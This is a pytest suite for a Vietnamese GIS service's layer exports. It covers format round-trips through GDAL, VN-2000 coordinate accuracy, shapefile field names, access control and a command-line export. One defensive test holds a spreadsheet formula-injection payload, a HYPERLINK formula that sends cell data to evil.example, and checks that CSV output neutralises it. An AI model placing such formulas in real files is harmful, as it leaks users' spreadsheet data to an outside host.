"""Exports read back through GDAL: counts, attributes, diacritics, VN-2000 coordinates against pyproj, access."""

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from collections import Counter
from decimal import Decimal
from pathlib import Path

import pyogrio
import pytest
import shapely
from pyproj import Transformer
from sqlalchemy import text

from gis.crs import parse_crs_uri
from layers.exports import export_layer
from layers.features import FeatureQuery
from layers.registry import get_layer
from layers.spec import Access
from tests.conftest import DATA_DIR

FORMATS = ("gpkg", "shp", "kml", "geojson", "csv", "fgb", "dxf")
TO_9209 = Transformer.from_crs("EPSG:4326", "EPSG:9209", always_xy=True)


def demo(name: str) -> list[dict]:
    return json.loads((DATA_DIR / "demo" / f"{name}.geojson").read_text(encoding="utf-8"))["features"]


def download(client, tmp_path: Path, collection: str, headers=None, **params) -> Path:
    response = client.get(f"/collections/{collection}/items", params=params, headers=headers or {})
    assert response.status_code == 200, response.text
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment")
    name = disposition.split("filename=")[1].strip('"')
    path = tmp_path / name
    path.write_bytes(response.content)
    return path


def dxf_texts(frame):
    """The MTEXT entities of a DXF read back with GDAL (a hatch's Text is its pattern name, e.g. SOLID)."""
    return frame[frame["SubClasses"].str.contains("AcDbMText")]


def dxf_shapes(frame):
    """The entities of a DXF that are not texts: the features' own geometries."""
    return frame[~frame["SubClasses"].str.contains("AcDbMText")]


def read_back(path: Path, fmt: str):
    """Read an export with GDAL (pyogrio), whatever its format."""
    if fmt == "shp":
        return pyogrio.read_dataframe(f"/vsizip/{path}/{path.stem}.shp")
    if fmt == "csv":
        return pyogrio.read_dataframe(path, GEOM_POSSIBLE_NAMES="wkt", KEEP_GEOM_COLUMNS="NO")
    return pyogrio.read_dataframe(path)


def current_plots(db_conn) -> list[tuple]:
    return db_conn.execute(text("SELECT code, name_vi, status FROM land_plots WHERE valid_to IS NULL")).all()


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_round_trips_through_gdal_with_all_features_and_diacritics(client, db_conn, tmp_path, fmt):
    plots = current_plots(db_conn)
    assert len(plots) > 100  # more than the items endpoint's default page
    path = download(client, tmp_path, "land_plots", f=fmt)
    frame = read_back(path, fmt)
    if fmt == "dxf":
        shapes, texts = dxf_shapes(frame), dxf_texts(frame)
        assert Counter(shapes["Layer"]) == Counter(f"land_plots-{status}" for _, _, status in plots)
        assert len(texts) == len(plots)
        return
    assert len(frame) == len(plots)
    names = frame["Name"] if fmt == "kml" and "name_vi" not in frame else frame["name_vi"]
    assert sorted(names) == sorted(name for _, name, _ in plots)
    assert any("Lô đất" in n for n in names)
    assert sorted(frame["status"]) == sorted(status for _, _, status in plots)


@pytest.mark.parametrize("fmt", ["gpkg", "shp", "fgb", "geojson", "csv", "dxf"])
def test_vn2000_coordinates_agree_with_pyproj_within_a_centimetre(client, tmp_path, fmt):
    source = {f["properties"]["uid"]: f["geometry"]["coordinates"] for f in demo("border_gates")}
    params = {"f": fmt, "crs": "http://www.opengis.net/def/crs/EPSG/0/9209"}
    if fmt == "csv":
        params["geometry"] = "xy"
    path = download(client, tmp_path, "border_gates", **params)
    if fmt == "csv":
        rows = list(csv.DictReader(path.read_text(encoding="utf-8").splitlines()))
        points = {r["uid"]: (float(r["x"]), float(r["y"])) for r in rows}
    elif fmt == "geojson":
        features = json.loads(path.read_text(encoding="utf-8"))["features"]
        points = {f["properties"]["uid"]: f["geometry"]["coordinates"] for f in features}
    elif fmt == "dxf":
        frame = read_back(path, fmt)
        frame = dxf_shapes(frame)  # the gates' points; their names are texts at the same places
        found = sorted((round(p.x, 3), round(p.y, 3)) for p in frame.geometry)
        expected = sorted((round(x, 3), round(y, 3)) for x, y in (TO_9209.transform(*c) for c in source.values()))
        assert len(found) == len(expected)
        for (fx, fy), (ex, ey) in zip(found, expected, strict=True):
            assert abs(fx - ex) < 0.01 and abs(fy - ey) < 0.01
        return
    else:
        frame = read_back(path, fmt)
        points = {uid: (g.x, g.y) for uid, g in zip(frame["uid"], frame.geometry, strict=True)}
        if fmt == "gpkg":
            assert frame.crs.to_epsg() == 9209
    assert set(points) == set(source)
    for uid, (lon, lat) in source.items():
        east, north = TO_9209.transform(lon, lat)
        assert abs(points[uid][0] - east) < 0.01 and abs(points[uid][1] - north) < 0.01, uid


def test_shapefile_zip_has_prj_utf8_cpg_and_documents_short_field_names(client, tmp_path):
    path = download(client, tmp_path, "border_gates", f="shp")
    with zipfile.ZipFile(path) as archive:
        names = set(archive.namelist())
        assert {
            "border_gates.shp",
            "border_gates.shx",
            "border_gates.dbf",
            "border_gates.prj",
            "border_gates.cpg",
            "fields.csv",
            "README.txt",
        } <= names
        assert archive.read("border_gates.cpg").decode().strip() == "UTF-8"
        assert (
            "GEOGCS" in archive.read("border_gates.prj").decode()
            or "GEOGCRS" in archive.read("border_gates.prj").decode()
        )
        mapping = dict(csv.reader(io.StringIO(archive.read("fields.csv").decode("utf-8"))))
        readme = archive.read("README.txt").decode("utf-8")
    # The rule by hand: cut to 10; when taken, 8 characters + 01, 02 …
    assert mapping["counterpart_uid"] == "counterpar"
    assert mapping["counterpart_name"] == "counterp01"
    assert mapping["counterpart_country"] == "counterp02"
    assert mapping["geometry_illustrative"] == "geometry_i"
    assert mapping["gate_class"] == "gate_class" and mapping["name_vi"] == "name_vi"
    assert "counterpart_name -> counterp01" in readme and "UTF-8" in readme
    frame = read_back(path, "shp")
    assert {"counterpar", "counterp01", "counterp02"} <= set(frame.columns)
    assert "Cửa khẩu quốc tế Tịnh Biên" in set(frame["name_vi"])


def test_kml_is_always_wgs84_and_says_so_when_another_crs_was_asked(client, tmp_path):
    response = client.get("/collections/border_gates/items", params={"f": "kml", "crs": "EPSG:9209"})
    assert response.status_code == 200
    assert "always WGS84" in response.headers["x-export-notes"]
    assert response.headers["content-crs"] == "<http://www.opengis.net/def/crs/OGC/1.3/CRS84>"
    path = tmp_path / "gates.kml"
    path.write_bytes(response.content)
    frame = pyogrio.read_dataframe(path)
    source = {f["properties"]["name_vi"]: f["geometry"]["coordinates"] for f in demo("border_gates")}
    assert len(frame) == len(source)
    for name, point in zip(frame["Name"], frame.geometry, strict=True):
        lon, lat = source[name]
        assert point.x == pytest.approx(lon, abs=1e-7) and point.y == pytest.approx(lat, abs=1e-7)


def test_dxf_of_industrial_parks_carries_every_park_name_as_a_text_inside_it(client, db_conn, tmp_path):
    parks = db_conn.execute(text("SELECT uid, name_vi FROM industrial_parks WHERE valid_to IS NULL")).all()
    path = download(client, tmp_path, "industrial_parks", f="dxf", crs="EPSG:9209")
    frame = read_back(path, "dxf")
    texts = dxf_texts(frame)
    assert sorted(texts["Text"]) == sorted(name for _, name in parks)
    assert any("Hoành Sơn" in name for name in texts["Text"])  # diacritics intact through the DXF code page
    assert set(texts["Layer"]) == set(dxf_shapes(frame)["Layer"]) == {"industrial_parks"}  # the features' layer
    for name, point in zip(texts["Text"], texts.geometry, strict=True):
        uid = next(uid for uid, n in parks if n == name)
        inside = db_conn.execute(
            text(
                "SELECT ST_Contains(ST_Transform(geom, 9209), ST_SetSRID(ST_MakePoint(:x, :y), 9209)) "
                "FROM industrial_parks WHERE uid = :uid AND valid_to IS NULL"
            ),
            {"x": point.x, "y": point.y, "uid": uid},
        ).scalar_one()
        assert inside, name


def test_dxf_labels_of_plots_are_their_codes_and_keep_quotes_and_backslashes(db_conn, tmp_path):
    odd = 'CN "7" \\ Bắc'
    db_conn.execute(
        text("UPDATE land_plots SET code = :odd WHERE uid = 'KCN-HS-CN1' AND valid_to IS NULL"), {"odd": odd}
    )
    query = FeatureQuery(access=Access.public, equals={"park_uid": "KCN-HS"})
    result = export_layer(db_conn, get_layer("land_plots"), query, "dxf", parse_crs_uri("EPSG:9209"), tmp_path)
    assert any("MTEXT" in note for note in result.notes)
    frame = read_back(result.path, "dxf")
    codes = db_conn.execute(
        text("SELECT code FROM land_plots WHERE valid_to IS NULL AND park_uid = 'KCN-HS'")
    ).scalars()
    assert sorted(dxf_texts(frame)["Text"]) == sorted(codes)
    assert odd in set(dxf_texts(frame)["Text"])


def test_csv_carries_wkt_by_default_and_an_optional_bom(client, tmp_path, db_conn):
    response = client.get("/collections/transport_lines/items", params={"f": "csv", "bom": "true"})
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(response.content.decode("utf-8-sig").splitlines()))
    count = db_conn.execute(text("SELECT count(*) FROM transport_lines")).scalar_one()
    assert len(rows) == count
    assert all(shapely.from_wkt(r["wkt"]).geom_type == "MultiLineString" for r in rows)
    bad = client.get("/collections/land_plots/items", params={"f": "csv", "geometry": "xy"})
    assert bad.status_code == 400 and "point layer" in bad.json()["description"]
    misplaced = client.get("/collections/land_plots/items", params={"f": "gpkg", "bom": "true"})
    assert misplaced.status_code == 400 and "f=csv only" in misplaced.json()["description"]


def test_filter_bbox_datetime_properties_and_explicit_limit_are_honoured(client, db_conn, tmp_path):
    available = db_conn.execute(
        text("SELECT count(*) FROM land_plots WHERE valid_to IS NULL AND status = 'available'")
    ).scalar_one()
    frame = read_back(download(client, tmp_path, "land_plots", f="gpkg", filter="status = 'available'"), "gpkg")
    assert len(frame) == available and set(frame["status"]) == {"available"}

    box = (104.9, 10.5, 105.1, 10.95)
    inside = {
        f["properties"]["uid"]
        for f in demo("border_gates")
        if box[0] <= f["geometry"]["coordinates"][0] <= box[2] and box[1] <= f["geometry"]["coordinates"][1] <= box[3]
    }
    frame = read_back(download(client, tmp_path, "border_gates", f="fgb", bbox=",".join(map(str, box))), "fgb")
    assert set(frame["uid"]) == inside and inside

    then = db_conn.execute(
        text("SELECT uid, area_ha FROM economic_zones WHERE valid_during @> DATE '2010-01-01'")
    ).all()
    frame = read_back(download(client, tmp_path, "economic_zones", f="gpkg", datetime="2010-01-01"), "gpkg")
    assert sorted(frame["uid"]) == sorted(uid for uid, _ in then)
    assert sorted(round(a, 2) for a in frame["area_ha"]) == sorted(round(float(a), 2) for _, a in then)

    frame = read_back(download(client, tmp_path, "land_plots", f="gpkg", properties="code,status", limit="7"), "gpkg")
    assert len(frame) == 7 and set(frame.columns) == {"id", "code", "status", "geometry"}


def test_internal_fields_and_layers_follow_the_readers_access(client, staff, tmp_path):
    public = read_back(download(client, tmp_path, "projects", f="gpkg"), "gpkg")
    assert "policy_decision_id" not in public.columns
    (tmp_path / "staff").mkdir()
    internal = read_back(download(client, tmp_path / "staff", "projects", headers=staff["viewer"], f="gpkg"), "gpkg")
    assert "policy_decision_id" in internal.columns and len(internal) == len(public)
    assert client.get("/collections/clearance_parcels/items", params={"f": "csv"}).status_code == 401
    parcels = read_back(download(client, tmp_path, "clearance_parcels", headers=staff["viewer"], f="gpkg"), "gpkg")
    assert "owner_name" in parcels.columns and len(parcels) > 0


def test_geojson_download_is_the_whole_collection_with_counts(client, db_conn):
    total = len(current_plots(db_conn))
    body = client.get("/collections/land_plots/items", params={"f": "geojson"}).json()
    assert body["type"] == "FeatureCollection"
    assert body["numberReturned"] == body["numberMatched"] == len(body["features"]) == total
    limited = client.get("/collections/land_plots/items", params={"f": "geojson", "limit": 10}).json()
    assert limited["numberReturned"] == 10 and limited["numberMatched"] == total


def test_zone_export_is_one_geopackage_with_a_layer_per_kind(client, db_conn, tmp_path):
    response = client.get("/api/exports/zones/KKTCK-AG")
    assert response.status_code == 200
    path = tmp_path / "zone.gpkg"
    path.write_bytes(response.content)
    layers = {str(name) for name, _ in pyogrio.list_layers(path)}
    assert {"economic_zones", "functional_areas", "land_plots", "border_gates", "projects", "decisions"} <= layers
    assert "clearance_parcels" not in layers  # internal: not for anonymous readers

    def sql_count(query: str) -> int:
        return db_conn.execute(text(query)).scalar_one()

    assert len(pyogrio.read_dataframe(path, layer="functional_areas")) == sql_count(
        "SELECT count(*) FROM functional_areas WHERE zone_uid = 'KKTCK-AG' AND valid_to IS NULL"
    )
    gates = pyogrio.read_dataframe(path, layer="border_gates")
    assert sorted(gates["uid"]) == sorted(
        f["properties"]["uid"] for f in demo("border_gates") if f["properties"]["zone_uid"] == "KKTCK-AG"
    )
    zone = pyogrio.read_dataframe(path, layer="economic_zones")
    assert len(zone) == 1 and zone["valid_from"][0].isoformat()[:10] == "2016-03-22"

    older = client.get("/api/exports/zones/KKTCK-AG", params={"datetime": "2010-01-01"})
    path.write_bytes(older.content)
    zone = pyogrio.read_dataframe(path, layer="economic_zones")
    assert zone["valid_from"][0].isoformat()[:10] == "2009-06-15"
    missing = client.get("/api/exports/zones/KKT-NOWHERE")
    assert missing.status_code == 404 and "KKT-NOWHERE" in missing.json()["description"]


def test_cli_export_writes_a_filtered_vn2000_geopackage(database_url, engine, tmp_path):
    target = tmp_path / "laos.gpkg"
    env = {**os.environ, "DATABASE_URL": database_url}
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "api",
            "export",
            "border_gates",
            "--format",
            "gpkg",
            "--crs",
            "9209",
            "--filter",
            "counterpart_country = 'LA'",
            "-o",
            str(target),
        ],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    expected = [f for f in demo("border_gates") if f["properties"]["counterpart_country"] == "LA"]
    frame = pyogrio.read_dataframe(target)
    assert len(frame) == len(expected) > 0 and frame.crs.to_epsg() == 9209
    assert f"wrote {len(expected)} features" in done.stdout
    refused = subprocess.run(
        [sys.executable, "-m", "api", "export", "clearance_parcels", "-o", str(tmp_path / "p.gpkg")],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert refused.returncode == 2 and "--internal" in refused.stderr
    internal = subprocess.run(
        [sys.executable, "-m", "api", "export", "clearance_parcels", "--internal", "-o", str(tmp_path / "p.zip")],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert internal.returncode == 0, internal.stderr
    with zipfile.ZipFile(tmp_path / "p.zip") as archive:
        assert "fields.csv" in archive.namelist()


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'


def test_csv_downloads_neutralise_formulas_and_keep_numbers(client, staff, edits, engine):
    gate = {
        "type": "Feature",
        "geometry": {"type": "Point", "coordinates": [105.60, 10.80]},
        "properties": {
            "uid": "TEST-CK-CSV",
            "name_vi": HYPERLINK,
            "name_en": "+84 236 3822 123",
            "gate_class": "main",
            "mode": "road",
            "country": "VN",
            "province_code": "DONG_THAP",
            "notes": "@SUM(1+1)",
        },
    }
    created = client.post(
        "/collections/border_gates/items",
        json=gate,
        headers={**staff["editor"], "Content-Type": "application/geo+json"},
    )
    assert created.status_code == 201, created.text
    response = client.get(  # as staff: working notes are not shown to anonymous readers
        "/collections/border_gates/items",
        params={"f": "csv", "geometry": "xy", "uid": "TEST-CK-CSV"},
        headers=staff["viewer"],
    )
    (row,) = csv.DictReader(response.content.decode("utf-8").splitlines())
    assert row["name_vi"] == "'" + HYPERLINK and row["name_en"] == "'+84 236 3822 123" and row["notes"] == "'@SUM(1+1)"
    assert float(row["x"]) == pytest.approx(105.60) and float(row["y"]) == pytest.approx(10.80)

    # The land finder's CSV: a plot renamed for the test, its numbers still numbers.
    with engine.connect() as conn:
        plot_id, uid, name, area = conn.execute(
            text(
                "SELECT id, uid, name_vi, area_ha FROM land_plots WHERE valid_to IS NULL AND status = 'available' "
                "ORDER BY id LIMIT 1"
            )
        ).one()
    try:
        with engine.begin() as conn:
            conn.execute(
                text("UPDATE land_plots SET name_vi = :n WHERE id = :i"), {"n": "-1+" + HYPERLINK, "i": plot_id}
            )
        response = client.get("/api/land/available", params={"f": "csv", "uid": uid})
        (row,) = csv.DictReader(response.content.decode("utf-8-sig").splitlines())
        assert row["name_vi"] == "'-1+" + HYPERLINK
        assert Decimal(row["area_ha"]) == pytest.approx(area, abs=Decimal("0.01"))
    finally:
        with engine.begin() as conn:
            conn.execute(text("UPDATE land_plots SET name_vi = :n WHERE id = :i"), {"n": name, "i": plot_id})
